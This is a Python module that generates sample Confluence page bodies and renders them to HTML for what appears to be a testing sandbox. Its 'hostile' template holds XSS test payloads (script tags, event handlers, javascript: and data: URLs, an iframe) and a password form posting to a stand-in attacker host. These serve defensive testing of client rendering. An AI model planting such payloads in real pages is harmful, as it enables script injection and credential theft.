"""Confluence page bodies: storage format templates and their view rendering.

Storage format is Confluence's XHTML with `ac:` elements (macros, links, images,
tasks) and `ri:` resource identifiers. Pages use one of three templates:

- plain: a heading, a paragraph and an info macro;
- rich: headings, a table, lists, links, images, a user mention, a date, an
  emoticon, a task list, and info, status, code and table-of-contents macros;
- hostile: a script element, event handler attributes, `javascript:` and
  `data:` URLs, an iframe, a style element and style attributes, a form, an SVG
  and an HTML macro, next to text that only looks like markup.

NOTE: Confluence Cloud's editor strips most of the hostile markup when a page is
saved. The sandbox serves it anyway, so that clients get tested on showing page
bodies safely.

`storage_to_view` renders storage format as HTML, as body-format=view returns
it: `ac:` and `ri:` elements are replaced by plain HTML or dropped, and all other
markup is kept as written, the hostile parts included.
"""

from __future__ import annotations

import base64
import re
from html import escape
from html.parser import HTMLParser

from lib.sandbox.data import HOSTILE_BODY, RICH_BODY, Page, Person, Space

_INFO_MACROS = ("info", "note", "warning", "tip", "panel")
_SVG_PAYLOAD = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
).decode()
_HTML_PAYLOAD = base64.b64encode(b"<script>alert('data url')</script>").decode()


def storage_body(space: Space, page: Page) -> str:
    """Return a page's body in storage format."""
    if page.body_kind == RICH_BODY:
        return _rich(space, page)
    if page.body_kind == HOSTILE_BODY:
        return _hostile(page)
    return _plain(space, page)


def _plain(space: Space, page: Page) -> str:
    title, name = escape(page.title), escape(space.name)
    author = escape(page.author.display_name)
    return (
        f"<h1>{title}</h1><p>Practice page in <strong>{name}</strong>, written "
        f'by {author}.</p><ac:structured-macro ac:name="info" '
        'ac:schema-version="1"><ac:rich-text-body><p>✅ Sample content 🚀</p>'
        "</ac:rich-text-body></ac:structured-macro>"
    )


def _rich(space: Space, page: Page) -> str:
    title, name = escape(page.title), escape(space.name)
    author: Person = page.author
    return (
        f"<h1>{title}</h1>"
        '<ac:structured-macro ac:name="toc" ac:schema-version="1">'
        '<ac:parameter ac:name="maxLevel">2</ac:parameter></ac:structured-macro>'
        f"<p>Practice page in <strong>{name}</strong>, written by "
        f'<ac:link><ri:user ri:account-id="{escape(author.account_id)}" />'
        '</ac:link>. Reviewed on <time datetime="2025-03-01" />.</p>'
        '<ac:structured-macro ac:name="info" ac:schema-version="1">'
        "<ac:rich-text-body><p>✅ Sample content 🚀 — read this first.</p>"
        "</ac:rich-text-body></ac:structured-macro>"
        "<h2>Checklist</h2>"
        '<ul><li>Read the <a href="https://docs.example.test/setup?a=1&amp;b=2">'
        "setup guide</a></li><li><em>Ask</em> in <code>#help</code></li>"
        "<li>Café &amp; croissants on Fridays</li></ul>"
        "<ol><li>Clone the repository</li><li>Run <code>make test</code></li></ol>"
        "<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-status>"
        "incomplete</ac:task-status><ac:task-body>Book the room</ac:task-body>"
        "</ac:task></ac:task-list>"
        "<h2>Owners</h2>"
        '<table data-layout="default"><colgroup><col /><col /></colgroup><tbody>'
        "<tr><th><p>Area</p></th><th><p>Status</p></th></tr>"
        f"<tr><td><p>{escape(author.display_name)}</p></td><td><p>"
        '<ac:structured-macro ac:name="status" ac:schema-version="1">'
        '<ac:parameter ac:name="title">On track</ac:parameter>'
        '<ac:parameter ac:name="colour">Green</ac:parameter>'
        "</ac:structured-macro></p></td></tr></tbody></table>"
        '<p><ac:image ac:align="center" ac:width="320" ac:alt="Architecture">'
        '<ri:attachment ri:filename="architecture.png" /></ac:image></p>'
        '<p><ac:image ac:alt="Team photo"><ri:url '
        'ri:value="https://images.example.test/team.jpg" /></ac:image></p>'
        '<ac:structured-macro ac:name="code" ac:schema-version="1">'
        '<ac:parameter ac:name="language">python</ac:parameter>'
        '<ac:plain-text-body><![CDATA[if a < b and c > d:\n    print("<done>")]]>'
        "</ac:plain-text-body></ac:structured-macro>"
        '<p><ac:emoticon ac:name="tick" ac:emoji-shortname=":white_check_mark:" '
        'ac:emoji-id="2705" ac:emoji-fallback="✅" /> Done</p>'
    )


def _hostile(page: Page) -> str:
    title = escape(page.title)
    return (
        f"<h1>{title}</h1>"
        "<p>Every element below is unsafe to render as it is.</p>"
        "<script>alert('storage script')</script>"
        '<p><img src="x" onerror="alert(\'img onerror\')" /></p>'
        "<p onclick=\"alert('paragraph onclick')\">Click this paragraph.</p>"
        "<p><a href=\"javascript:alert('link')\">javascript: link</a>, "
        '<a href="JaVaScRiPt:alert(2)">mixed case</a>, '
        '<a href="&#106;avascript:alert(3)">entity-encoded</a></p>'
        '<iframe src="https://evil.example.test/frame" width="400" height="300">'
        "</iframe>"
        "<style>body { display: none !important; }</style>"
        '<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; '
        'background: red; z-index: 9999;">Inline style covers the page.</p>'
        f'<p><img src="data:image/svg+xml;base64,{_SVG_PAYLOAD}" '
        'alt="data URL image" /></p>'
        f'<p><a href="data:text/html;base64,{_HTML_PAYLOAD}">data: URL link</a></p>'
        '<svg onload="alert(\'svg\')"><circle r="5" /></svg>'
        '<form action="https://evil.example.test/collect" method="post">'
        '<input name="password" type="password" /><button>Log in</button></form>'
        '<ac:structured-macro ac:name="html" ac:schema-version="1">'
        "<ac:plain-text-body><![CDATA[<script>alert('html macro')</script>"
        "<img src=x onerror=alert('macro image')>]]></ac:plain-text-body>"
        "</ac:structured-macro>"
        "<p>Text that only looks like markup: &lt;script&gt;alert('escaped')"
        "&lt;/script&gt;, **bold** and [link](javascript:alert(4))</p>"
    )


# View rendering

_CDATA = re.compile(r"<!\[CDATA\[(.*?)\]\]>", re.DOTALL)
# Elements whose content is editor data, not page text.
_HIDDEN = ("ac:parameter", "ac:task-id", "ac:task-status", "ac:placeholder")


class _ViewRenderer(HTMLParser):
    """A parser that rewrites storage format as view HTML (see storage_to_view)."""

    def __init__(self, page: Page, people: dict[str, Person], blocks: list[str]):
        super().__init__(convert_charrefs=False)
        self.page = page
        self.people = people
        self.blocks = blocks
        self.outputs: list[list[str]] = [[]]
        self.macros: list[dict] = []
        self.hidden = 0
        self.parameter: str | None = None
        self.links: list[dict] = []
        self.image: dict[str, str] | None = None

    def emit(self, text: str) -> None:
        if not self.hidden:
            self.outputs[-1].append(text)

    def html(self) -> str:
        return "".join(self.outputs[0])

    # Parser callbacks

    def handle_starttag(self, tag, attrs):
        self.start(tag, dict(attrs), self.get_starttag_text(), closed=False)

    def handle_startendtag(self, tag, attrs):
        self.start(tag, dict(attrs), self.get_starttag_text(), closed=True)

    def handle_endtag(self, tag):
        if tag.startswith(("ac:", "ri:")):
            self.end_confluence(tag)
        else:
            self.emit(f"</{tag}>")

    def handle_data(self, data):
        if self.parameter is not None and self.macros:
            parameters = self.macros[-1]["parameters"]
            parameters[self.parameter] = parameters.get(self.parameter, "") + data
        self.emit(data)

    def handle_entityref(self, name):
        self.emit(f"&{name};")

    def handle_charref(self, name):
        self.emit(f"&#{name};")

    def handle_comment(self, data):
        self.emit(f"<!--{data}-->")

    # Elements

    def start(self, tag: str, attrs: dict, raw: str, closed: bool) -> None:
        if not tag.startswith(("ac:", "ri:")):
            self.emit(raw)
            return
        if tag in _HIDDEN:
            if tag == "ac:parameter":
                self.parameter = attrs.get("ac:name", "")
            if not closed:
                self.hidden += 1
            return
        self.start_confluence(tag, attrs)
        if closed:
            self.end_confluence(tag)

    def start_confluence(self, tag: str, attrs: dict) -> None:
        if tag == "ac:structured-macro":
            self.start_macro(attrs.get("ac:name", ""))
        elif tag == "ac:cdata":
            self.emit_block(int(attrs.get("index", "0")))
        elif tag == "ac:link":
            self.links.append({"href": "#", "text": ""})
            self.outputs.append([])
        elif tag == "ri:user" and self.links:
            self.mention(attrs.get("ri:account-id", ""))
        elif tag == "ri:page" and self.links:
            self.links[-1]["text"] = escape(attrs.get("ri:content-title", ""))
        elif tag == "ac:image":
            self.image = attrs
        elif tag in ("ri:url", "ri:attachment") and self.image is not None:
            self.emit_image(attrs)
        elif tag == "ac:emoticon":
            self.emit(escape(attrs.get("ac:emoji-fallback") or ":)"))
        elif tag == "ac:task-list":
            self.emit('<ul class="inline-task-list">')
        elif tag == "ac:task":
            self.emit("<li>")
        elif tag == "ac:layout-section":
            self.emit('<div class="columnLayout">')
        elif tag == "ac:layout-cell":
            self.emit('<div class="cell">')

    def end_confluence(self, tag: str) -> None:
        if tag in _HIDDEN:
            self.hidden = max(0, self.hidden - 1)
            self.parameter = None
        elif tag == "ac:structured-macro" and self.macros:
            self.end_macro(self.macros.pop())
        elif tag == "ac:link" and self.links:
            link = self.links.pop()
            body = "".join(self.outputs.pop()) or link["text"]
            self.emit(f'<a href="{escape(link["href"])}">{body}</a>')
        elif tag == "ac:image":
            self.image = None
        elif tag == "ac:task-list":
            self.emit("</ul>")
        elif tag == "ac:task":
            self.emit("</li>")
        elif tag in ("ac:layout-section", "ac:layout-cell"):
            self.emit("</div>")

    def start_macro(self, name: str) -> None:
        self.macros.append({"name": name, "parameters": {}})
        if name in _INFO_MACROS:
            self.emit(
                f'<div class="confluence-information-macro '
                f'confluence-information-macro-{escape(name)}">'
            )
        elif name == "code":
            self.emit('<pre class="syntaxhighlighter-pre">')
        elif name == "toc":
            self.emit('<div class="toc-macro"></div>')

    def end_macro(self, macro: dict) -> None:
        name = macro["name"]
        if name in _INFO_MACROS:
            self.emit("</div>")
        elif name == "code":
            self.emit("</pre>")
        elif name == "status":
            title = escape(macro["parameters"].get("title", ""))
            self.emit(f'<span class="status-macro aui-lozenge">{title}</span>')

    def emit_block(self, index: int) -> None:
        """Emit a CDATA block: raw inside an html macro, escaped elsewhere."""
        text = self.blocks[index]
        in_html_macro = bool(self.macros) and self.macros[-1]["name"] == "html"
        self.emit(text if in_html_macro else escape(text, quote=False))

    def mention(self, account_id: str) -> None:
        person = self.people.get(account_id)
        name = person.display_name if person else "Unknown user"
        self.links[-1]["href"] = f"/wiki/people/{account_id}"
        self.links[-1]["text"] = escape(f"@{name}")

    def emit_image(self, attrs: dict) -> None:
        if "ri:value" in attrs:
            source = attrs["ri:value"]
        else:
            filename = attrs.get("ri:filename", "")
            source = f"/wiki/download/attachments/{self.page.id}/{filename}"
        alt = self.image.get("ac:alt", "")
        self.emit(
            f'<img class="confluence-embedded-image" src="{escape(source)}" '
            f'alt="{escape(alt)}" />'
        )


def storage_to_view(storage: str, page: Page, people: dict[str, Person]) -> str:
    """Render storage format as view HTML for one page.

    `people` maps account ids to people, for user mentions. CDATA sections are
    cut out before parsing, because Python versions differ in how HTMLParser
    reads them, and put back as text: raw in an html macro, escaped elsewhere.
    """
    blocks: list[str] = []

    def cut(match: re.Match) -> str:
        blocks.append(match.group(1))
        return f'<ac:cdata index="{len(blocks) - 1}" />'

    renderer = _ViewRenderer(page, people, blocks)
    renderer.feed(_CDATA.sub(cut, storage))
    renderer.close()
    return renderer.html()
